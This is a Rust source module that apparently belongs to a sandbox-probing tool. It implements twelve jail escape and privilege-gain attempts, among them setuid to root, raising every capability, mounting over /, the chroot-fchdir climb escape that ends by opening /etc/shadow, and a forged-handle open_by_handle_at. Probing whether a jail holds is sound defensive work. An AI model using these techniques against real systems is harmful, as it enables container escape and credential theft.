//! Gaining privilege or leaving the jail's namespaces and root.

use control::probe::TechniqueRequest;

use super::sys::{self, addr_of, addr_of_cstr, reg, scalar, scalar_reached, Attempt, Technique};

pub(super) const TECHNIQUES: &[(&str, Technique)] = &[
    ("setuid_root", setuid_root),
    ("setgid_root", setgid_root),
    ("capset_all", capset_all),
    ("unshare_user", unshare_user),
    ("setns_fd0", setns_fd0),
    ("mount_tmpfs", mount_tmpfs),
    ("pivot_root", pivot_root),
    ("chroot_fchdir_escape", chroot_fchdir_escape),
    ("open_by_handle_at", open_by_handle_at),
    ("prctl_set_dumpable", prctl_set_dumpable),
    ("seccomp_set_filter", seccomp_set_filter),
    ("raise_rlimit_nofile", raise_rlimit_nofile),
];

/// `_LINUX_CAPABILITY_VERSION_3` from linux/capability.h (not in the libc crate).
const LINUX_CAPABILITY_VERSION_3: u32 = 0x2008_0522;

/// `FILEID_INO32_GEN` from linux/exportfs.h: a 32-bit inode and generation.
const FILEID_INO32_GEN: i32 = 1;

/// Inode of the root directory of ext2/3/4 file systems, the classic forged handle.
const EXT_ROOT_INODE: u8 = 2;

/// How many `..` steps the chroot escape climbs.
const CLIMB: usize = 64;

/// `struct __user_cap_header_struct`.
#[repr(C)]
struct CapHeader {
    version: u32,
    pid: i32,
}

/// `struct __user_cap_data_struct`.
#[repr(C)]
#[derive(Clone, Copy)]
struct CapData {
    effective: u32,
    permitted: u32,
    inheritable: u32,
}

/// `struct file_handle` with room for an 8-byte handle.
#[repr(C)]
struct FileHandle {
    handle_bytes: u32,
    handle_type: i32,
    f_handle: [u8; 8],
}

fn setuid_root(_: &TechniqueRequest) -> Attempt {
    scalar_reached(libc::SYS_setuid, &[0])
}

fn setgid_root(_: &TechniqueRequest) -> Attempt {
    scalar_reached(libc::SYS_setgid, &[0])
}

fn capset_all(_: &TechniqueRequest) -> Attempt {
    let header = CapHeader {
        version: LINUX_CAPABILITY_VERSION_3,
        pid: 0,
    };
    let all = CapData {
        effective: u32::MAX,
        permitted: u32::MAX,
        inheritable: u32::MAX,
    };
    let data = [all; 2];
    // SAFETY: the header and the two data structs (version 3's count) outlive the call.
    unsafe { sys::syscall(libc::SYS_capset, &[addr_of(&header), addr_of(&data)]) }
        .map(|_| "raised every capability".into())
}

fn unshare_user(_: &TechniqueRequest) -> Attempt {
    scalar_reached(libc::SYS_unshare, &[libc::CLONE_NEWUSER as u64])
}

fn setns_fd0(_: &TechniqueRequest) -> Attempt {
    scalar_reached(libc::SYS_setns, &[0, 0])
}

fn mount_tmpfs(_: &TechniqueRequest) -> Attempt {
    let source = sys::path("none");
    let target = sys::path("/");
    let fstype = sys::path("tmpfs");
    // SAFETY: the three strings outlive the call; the data pointer is NULL.
    unsafe {
        sys::syscall(
            libc::SYS_mount,
            &[
                addr_of_cstr(&source),
                addr_of_cstr(&target),
                addr_of_cstr(&fstype),
                0,
                0,
            ],
        )
    }
    .map(|_| "mounted a tmpfs on /".into())
}

fn pivot_root(_: &TechniqueRequest) -> Attempt {
    let dot = sys::path(".");
    // SAFETY: `dot` outlives the call.
    unsafe {
        sys::syscall(
            libc::SYS_pivot_root,
            &[addr_of_cstr(&dot), addr_of_cstr(&dot)],
        )
    }
    .map(|_| "pivoted the root".into())
}

fn chroot_fchdir_escape(_: &TechniqueRequest) -> Attempt {
    let root = sys::open("/", libc::O_RDONLY | libc::O_DIRECTORY)?;
    let result = chroot_then_climb(root.into());
    sys::close(root.into());
    result
}

fn chroot_then_climb(old_root: i64) -> Attempt {
    chroot("/")?;
    scalar(libc::SYS_fchdir, &[reg(old_root)])?;
    let up = sys::path("..");
    for _ in 0..CLIMB {
        // SAFETY: `up` outlives the call.
        unsafe { sys::syscall(libc::SYS_chdir, &[addr_of_cstr(&up)]) }?;
    }
    chroot(".")?;
    sys::open_reached("/etc/shadow", libc::O_RDONLY)
}

fn chroot(dir: &str) -> Result<i64, i32> {
    let dir = sys::path(dir);
    // SAFETY: `dir` outlives the call.
    unsafe { sys::syscall(libc::SYS_chroot, &[addr_of_cstr(&dir)]) }
}

fn open_by_handle_at(_: &TechniqueRequest) -> Attempt {
    let mount = sys::open("/", libc::O_RDONLY | libc::O_DIRECTORY)?;
    let handle = FileHandle {
        handle_bytes: 8,
        handle_type: FILEID_INO32_GEN,
        f_handle: [EXT_ROOT_INODE, 0, 0, 0, 0, 0, 0, 0],
    };
    // SAFETY: `handle` is a valid file_handle with `handle_bytes` bytes of handle, alive for
    // the call.
    let opened = unsafe {
        sys::syscall(
            libc::SYS_open_by_handle_at,
            &[
                reg(mount.into()),
                addr_of(&handle),
                reg((libc::O_RDONLY | libc::O_CLOEXEC).into()),
            ],
        )
    };
    sys::close(mount.into());
    let fd = opened?;
    sys::close(fd);
    Ok("opened a file by a forged handle".into())
}

fn prctl_set_dumpable(_: &TechniqueRequest) -> Attempt {
    scalar_reached(libc::SYS_prctl, &[libc::PR_SET_DUMPABLE as u64, 1, 0, 0, 0])
}

fn seccomp_set_filter(_: &TechniqueRequest) -> Attempt {
    let allow = libc::sock_filter {
        code: (libc::BPF_RET | libc::BPF_K) as u16,
        jt: 0,
        jf: 0,
        k: libc::SECCOMP_RET_ALLOW,
    };
    let program = libc::sock_fprog {
        len: 1,
        filter: &allow as *const libc::sock_filter as *mut libc::sock_filter,
    };
    // SAFETY: `program` points at one valid instruction; both outlive the call.
    unsafe {
        sys::syscall(
            libc::SYS_seccomp,
            &[libc::SECCOMP_SET_MODE_FILTER.into(), 0, addr_of(&program)],
        )
    }
    .map(|_| "installed another filter".into())
}

fn raise_rlimit_nofile(_: &TechniqueRequest) -> Attempt {
    let unlimited = libc::rlimit64 {
        rlim_cur: libc::RLIM64_INFINITY,
        rlim_max: libc::RLIM64_INFINITY,
    };
    // SAFETY: `unlimited` outlives the call; the old-limit pointer is NULL.
    unsafe {
        sys::syscall(
            libc::SYS_prlimit64,
            &[0, libc::RLIMIT_NOFILE as u64, addr_of(&unlimited), 0],
        )
    }
    .map(|_| "raised RLIMIT_NOFILE to unlimited".into())
}
